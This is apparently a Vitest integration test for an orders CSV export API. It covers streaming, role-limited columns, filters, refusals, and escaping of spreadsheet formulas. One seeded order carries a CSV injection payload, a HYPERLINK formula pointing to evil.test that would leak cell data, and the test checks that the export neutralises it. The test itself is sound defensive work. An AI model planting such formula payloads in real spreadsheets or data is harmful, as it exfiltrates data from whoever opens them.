import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRng, makeOrder } from '../../../seeds/generator.js';
import { recountOrderCounters } from '../../../api/src/modules/orders/counters.js';
import { createTestApp, signInDemoAccounts, type TestApp } from '../../helpers/app.js';
import { dialects } from '../../helpers/db.js';

/** GET /api/orders/export: a queue's whole CSV, streamed, with the role's columns and filters, formula-safe. */
describe.each(dialects())('order export on %s', (dialect) => {
  let t: TestApp;
  let tokens: Record<string, string>;
  const ADDED = 3_000;
  const exportOf = (role: string, filter: object | string) =>
    t.call(tokens[role]!, {
      method: 'GET',
      url: `/api/orders/export?filter=${encodeURIComponent(typeof filter === 'string' ? filter : JSON.stringify(filter))}`,
    });
  const linesOf = (body: string) => body.split('\r\n').filter(Boolean);

  beforeAll(async () => {
    t = await createTestApp(dialect);
    ({ tokens } = await signInDemoAccounts(t));
    const rng = createRng(33);
    const first = Number((await t.db('orders').max({ m: 'order_id' }).first())!.m) + 1;
    const orders = Array.from({ length: ADDED }, (_, i) => ({
      ...makeOrder(rng, first + i, Date.now() - (ADDED - i) * 60_000),
      process_status: 'Completed',
      assignee_id: null,
      assign_to: null,
      ...(i === 7 ? { full_name: '=HYPERLINK("http://evil.test/?d="&A1,"Click")', nationality: '@SUM(1)' } : {}),
    }));
    await t.db.batchInsert('orders', orders, 200);
    await recountOrderCounters(t.db);
  });
  afterAll(() => t?.close());

  it('streams every order of the queue, newest first, with the role columns and formula-safe cells', async () => {
    const res = await exportOf('admin', { queue: 'completedOrder' });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment/);
    const [header, ...rows] = linesOf(res.body);
    const expected = (
      await t.db('orders').where({ process_status: 'Completed' }).orderBy('order_id', 'desc').pluck('order_id')
    ).map(Number);
    expect(expected.length).toBeGreaterThan(ADDED);
    expect(rows.map((row) => Number(row.split(',')[0]))).toEqual(expected);
    expect(header).toMatch(/^"Order id",/);
    expect(header).toContain('"Email"');
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")"`);
    expect(res.body).not.toMatch(/(^|,)"[=+@-]/m);
  });

  it('applies the filters and leaves out what the role may not read', async () => {
    const res = await exportOf('team', { queue: 'completedOrder', nationality: 'Thailand' });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    const [header, ...rows] = linesOf(res.body);
    const expected = await t
      .db('orders')
      .where({ process_status: 'Completed', nationality: 'Thailand' })
      .count({ n: '*' })
      .first();
    expect(rows).toHaveLength(Number(expected!.n));
    expect(header).not.toMatch(/Amount|Paid at/i);
    const admin = linesOf((await exportOf('admin', { queue: 'completedOrder', nationality: 'Thailand' })).body)[0];
    expect(admin!.split(',').length).toBeGreaterThanOrEqual(header!.split(',').length);
  });

  it('refuses what it cannot export, naming why', async () => {
    expect((await exportOf('admin', {})).json().message).toBe('Filter queue is required.');
    expect((await exportOf('telecaller', { queue: 'allOrder' })).statusCode).toBe(403);
    const unknown = await exportOf('team', { queue: 'completedOrder', amount_gte: 1 });
    expect(unknown.statusCode).toBe(400);
    expect((await exportOf('admin', 'not json')).json().message).toBe('filter must be JSON.');
    expect((await t.call(tokens.admin!, { method: 'GET', url: '/api/orders/export' })).statusCode).toBe(400);
  });
});
